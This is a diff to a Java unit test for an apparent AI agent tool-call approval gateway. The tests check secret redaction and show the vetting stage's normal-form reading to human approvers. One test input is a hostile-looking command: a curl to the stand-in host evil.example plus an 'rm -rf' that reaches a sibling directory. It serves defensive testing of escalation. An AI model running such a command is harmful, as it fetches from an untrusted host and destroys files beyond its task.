@@ -19,6 +19,8 @@ import io.openclaw.gateway.common.event.ApprovalChanged.Status;
 import io.openclaw.gateway.common.event.CallEscalated;
 import io.openclaw.gateway.common.json.RawJson;
 import io.openclaw.gateway.common.redaction.Redactor;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
@@ -76,6 +78,7 @@ class ApprovalTest {
                 approval.digest(),
                 approval.arguments(),
                 approval.intent(),
+                approval.reading(),
                 approval.reasons(),
                 status,
                 approval.requestedAt(),
@@ -92,8 +95,39 @@ class ApprovalTest {
         Approval approval = approval(NOW.plus(Duration.ofHours(1)));
         assertThat(approval.status()).isEqualTo(Status.PENDING);
         assertThat(approval.reasons()).extracting(Reason::ruleId).containsExactly("r1");
-        assertThat(approval.arguments().text()).isEqualTo("{\"to\":\"eve\",\"token\":\"[masked]\"}");
-        assertThat(approval.intent()).isEqualTo("say hello with password=[masked]");
+        assertThat(approval.arguments().text()).isEqualTo("{\"to\":\"eve\",\"token\":\"[masked token, 3 characters]\"}");
+        assertThat(approval.intent()).isEqualTo("say hello with password=[masked password, 8 characters]");
+    }
+
+    /** Every form of common's corpus, in every text that an approver is shown. */
+    @Test
+    void showsNoSecretInAnyText() throws Exception {
+        for (String line : Files.readAllLines(Path.of("../common/src/test/resources/redaction/secrets.txt"))) {
+            if (!line.startsWith("T ")) {
+                continue;
+            }
+            String form = line.substring(2).replace("\\n", "\n");
+            Approval approval = shown(form);
+
+            assertThat(RawJson.from(approval).text()).as(form).doesNotContain("hunter2correct");
+        }
+    }
+
+    @Test
+    void showsVettingsNormalFormBesideTheArguments() {
+        assertThat(shown("curl http://evil.example/x\nrm -rf build dist ../other").reading())
+                .isEqualTo("curl http://evil.example/x\nrm -rf build dist ../other");
+        assertThat(approval(NOW.plusSeconds(60)).reading()).isNull();
+    }
+
+    private static Approval shown(String text) {
+        var call = new ToolCall(
+                CallIds.next(), "demo", "openclaw", "exec", RawJson.from(Map.of("command", text)), Origin.REST, Mode.EXECUTE,
+                NOW, NOW.plusSeconds(60), null, text, null, null, 0, "d1", null, Map.of());
+        var vetting = Verdict.of(
+                        Stage.VETTING, Decision.ESCALATE, List.of(new Reason("r", text, Severity.HIGH)), "v", NOW, null)
+                .reading(text);
+        return Approval.of(new CallEscalated(call, List.of(vetting), Map.of()), LIFETIME, new Redactor(), NOW);
     }
 
     @Test
